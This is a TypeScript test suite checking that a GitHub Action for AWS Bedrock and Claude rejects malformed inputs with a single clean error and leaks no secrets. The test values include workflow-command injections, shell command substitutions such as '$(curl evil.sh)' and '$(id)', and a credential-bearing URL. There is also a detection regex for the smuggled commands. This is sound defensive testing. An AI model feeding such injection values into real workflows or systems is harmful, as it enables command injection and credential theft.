// Malformed inputs through the bundled action, as a runner passes them (INPUT_* variables): each
// fails with exit code 1 and one clear `::error::` that names the input, before any request, with
// no stack trace, no forged workflow command and no echo of a secret or a huge value.
// (The messages themselves are unit-tested in __tests__/inputs.badInputs.test.ts.)
import { loadScenario } from '../../emulator/index.ts'
import { errorAnnotations } from './scenarioRun.ts'
import { LONG_TERM_API_KEY } from '../../__fixtures__/secrets.ts'
import { RunBatch, runIsolated } from './support/isolatedRun.ts'

const API_KEY = LONG_TERM_API_KEY
const PROFILE = 'us.anthropic.claude-sonnet-4-5-20250929-v1:0'
const ACCOUNT = '123456789012'
const HUGE = 'x'.repeat(100_000)

interface BadInput {
  /** The input the error must name. */
  readonly input: string
  readonly inputs: Readonly<Record<string, string>>
  readonly env?: Readonly<Record<string, string>>
}

const bad = (input: string, value: string, extra: Record<string, string> = {}): BadInput => ({
  input,
  inputs: { [input]: value, ...extra }
})

const CASES: ReadonlyArray<readonly [string, BadInput]> = [
  // aws-region
  ['region with an injected workflow command', bad('aws-region', 'us-east-1\n::set-env name=X::y')],
  ['region with a command substitution', bad('aws-region', '$(curl evil.sh)')],
  ['region with Unicode hyphens', bad('aws-region', 'us\u2010east\u20101')],
  ['region in upper case', bad('aws-region', 'US-EAST-1')],
  ['ISO partition region', bad('aws-region', 'us-iso-east-1')],
  ['region of 100 kB', bad('aws-region', HUGE)],
  [
    'bad region from AWS_REGION',
    { input: 'aws-region', inputs: { 'aws-region': '' }, env: { AWS_REGION: 'us east 1' } }
  ],
  // role-to-assume
  ['bare role name', bad('role-to-assume', 'claude-code')],
  ['IAM user ARN (wrong resource type)', bad('role-to-assume', `arn:aws:iam::${ACCOUNT}:user/ci`)],
  [
    'assumed-role session ARN',
    bad('role-to-assume', `arn:aws:sts::${ACCOUNT}:assumed-role/ci/run-1`)
  ],
  [
    'inference-profile ARN as role',
    bad('role-to-assume', `arn:aws:bedrock:us-east-1:${ACCOUNT}:inference-profile/${PROFILE}`)
  ],
  [
    'GovCloud role with a commercial region',
    bad('role-to-assume', `arn:aws-us-gov:iam::${ACCOUNT}:role/ci`)
  ],
  ['role name with backticks', bad('role-to-assume', `arn:aws:iam::${ACCOUNT}:role/ci\`id\``)],
  [
    'role ARN with an injected mask command',
    bad('role-to-assume', `arn:aws:iam::${ACCOUNT}:role/ci\n::add-mask::x`)
  ],
  // audience, session
  ['audience with a command substitution', bad('audience', 'sts.amazonaws.com$(id)')],
  ['audience with a full-width letter', bad('audience', '\uff53ts.amazonaws.com')],
  ['session name with shell characters', bad('role-session-name', 'ci/$(whoami)')],
  ['duration below the minimum', bad('role-duration-seconds', '90')],
  ['duration in full-width digits', bad('role-duration-seconds', '\uff13\uff16\uff10\uff10')],
  // bedrock-api-key (a secret: never repeated)
  [
    'API key with a space inside',
    bad('bedrock-api-key', `${API_KEY.slice(0, 20)} ${API_KEY.slice(20)}`)
  ],
  ['API key with an injected command', bad('bedrock-api-key', `${API_KEY}\n::set-env name=A::b`)],
  ['API key over 8 kB', bad('bedrock-api-key', API_KEY.repeat(200))],
  // models
  ['Amazon model', bad('model', 'amazon.nova-pro-v1:0')],
  ['unknown profile prefix', bad('model', `uk.${PROFILE.slice(3)}`)],
  [
    'provisioned-model ARN',
    bad('model', `arn:aws:bedrock:us-east-1:${ACCOUNT}:provisioned-model/abc123`)
  ],
  ['IAM role ARN as model (wrong resource type)', bad('model', `arn:aws:iam::${ACCOUNT}:role/ci`)],
  [
    'China model ARN with a commercial region (wrong partition)',
    bad(
      'model',
      `arn:aws-cn:bedrock:cn-north-1::foundation-model/anthropic.claude-3-haiku-20240307-v1:0`
    )
  ],
  ['model alias with backticks', bad('model', 'sonnet`id`')],
  ['model of 100 kB', bad('model', HUGE)],
  ['small model with an injected command', bad('small-fast-model', 'haiku\n::stop-commands::x')],
  ['small-model region in another partition', bad('small-fast-model-region', 'us-gov-west-1')],
  ['us-gov prefix in a commercial region', bad('inference-profile-prefix', 'us-gov')],
  // enums and booleans
  ['verify yes', bad('verify', 'yes')],
  ['fail-on-error yes', bad('fail-on-error', 'yes')],
  ['disable-prompt-caching 1', bad('disable-prompt-caching', '1')],
  ['export-credentials on', bad('export-credentials', 'on')],
  ['refresh-credentials sometimes', bad('refresh-credentials', 'sometimes')],
  [
    'mask-aws-account-id with an injected command',
    bad('mask-aws-account-id', 'true\n::add-mask::x')
  ],
  [
    'output-credentials with an injected command',
    bad('output-credentials', 'true\n::set-output name=x::y')
  ],
  ['job-summary command substitution', bad('job-summary', '$(false)')],
  // numbers and lists
  ['account ids split by semicolons', bad('allowed-account-ids', `${ACCOUNT};210987654321`)],
  ['account id in full-width digits', bad('allowed-account-ids', '\uff11'.repeat(12))],
  ['thinking tokens beyond a safe integer', bad('max-thinking-tokens', '9'.repeat(20))],
  ['zero output tokens', bad('max-output-tokens', '0')],
  ['output tokens with a command substitution', bad('max-output-tokens', '$(id)')],
  // endpoints
  ['plain http to a remote host', bad('sts-endpoint', 'http://sts.example.com')],
  [
    'endpoint with credentials in it',
    bad('bedrock-endpoint', 'https://user:s3cret-in-url@bedrock.example.com')
  ],
  [
    'endpoint with a command substitution',
    bad('bedrock-runtime-endpoint', 'https://rt.example.com/$(id)')
  ],
  ['endpoint with an encoded newline first', bad('sts-endpoint', '%0Ahttps://sts.example.com')]
]

/** Commands a value tried to smuggle in; none may reach the runner as a command. */
const INJECTED = /^::(set-env|set-output|add-mask::x|stop-commands|add-path)/m
/** A Node stack frame. */
const STACK = /^\s+at .+[(:]\d+/m

const batch = new RunBatch(6)
beforeAll(() => batch.start())
afterAll(() => batch.settled())

describe.each(CASES)('%s', (_title, { input, inputs, env }) => {
  const result = batch.add(() =>
    runIsolated('default', { inputs, ...(env !== undefined ? { env } : {}) })
  )

  it(`fails before any request, naming ${input}`, async () => {
    const { run, requests } = await result()
    expect(requests).toHaveLength(0)
    expect(run.exitCode).toBe(1)
    const errors = errorAnnotations(run)
    expect(errors).toHaveLength(1)
    expect(errors[0]).toContain(`'${input}'`)
    expect(errors[0]?.length).toBeLessThan(1_000)
    expect(run.stdout).not.toMatch(STACK)
    expect(run.stderr).not.toMatch(STACK)
    expect(run.stdout).not.toMatch(INJECTED)
    // Nothing for later steps, and the only commands are the error and the masks of the API key
    // and of the job's token (the runner's github-token input).
    expect(run.envFileText).toBe('')
    expect(
      run.commands.every(
        (c) => c.command === 'error' || c.command === 'add-mask' || c.command === 'debug'
      )
    ).toBe(true)
    const secrets = [inputs['bedrock-api-key']?.trim(), loadScenario('default').github.token]
    for (const mask of run.masks) expect(secrets).toContain(mask)
    const visible = run.stdout.replace(/^::add-mask::.*$/gm, '') + run.stderr + run.summary
    if (inputs['bedrock-api-key'] !== undefined) expect(visible).not.toContain(API_KEY)
    expect(visible).not.toContain('x'.repeat(3_000))
    expect(visible).not.toContain('s3cret-in-url')
  })
})

// fail-on-error and the summary hold for invalid inputs as for any other failure.
describe('an invalid input', () => {
  const lenient = batch.add(() =>
    runIsolated('default', { inputs: { model: 'gpt-4', 'fail-on-error': 'false' } })
  )
  const strict = batch.add(() => runIsolated('default', { inputs: { model: 'gpt-4' } }))

  it('with fail-on-error: false warns, sets passed=false and the report, writes the summary, exits 0', async () => {
    const { run, requests } = await lenient()
    expect(requests).toHaveLength(0)
    expect(run.exitCode).toBe(0)
    expect(errorAnnotations(run)).toEqual([])
    const warnings = run.commands.filter((c) => c.command === 'warning').map((c) => c.message)
    expect(warnings.join('\n')).toContain("Input 'model'")
    expect(run.outputs.passed).toBe('false')
    const report = JSON.parse(run.outputs.report ?? '{}') as {
      passed: boolean
      checks: Array<{ id: string; status: string; cause?: string }>
    }
    expect(report.passed).toBe(false)
    expect(report.checks).toEqual([
      expect.objectContaining({
        id: 'input:model',
        status: 'fail',
        cause: expect.stringContaining('gpt-4')
      })
    ])
    expect(run.summary).toContain('Not ready')
    expect(run.summary).toContain('`fail-on-error` is `false`')
    expect(run.summary).toContain("Input 'model'")
    expect(run.envFileText).toBe('')
  })

  it('with fail-on-error: true fails with one annotation and still writes the summary', async () => {
    const { run } = await strict()
    expect(run.exitCode).toBe(1)
    expect(errorAnnotations(run)).toHaveLength(1)
    expect(run.outputs.passed).toBe('false')
    expect(run.summary).toContain("Input 'model'")
  })
})
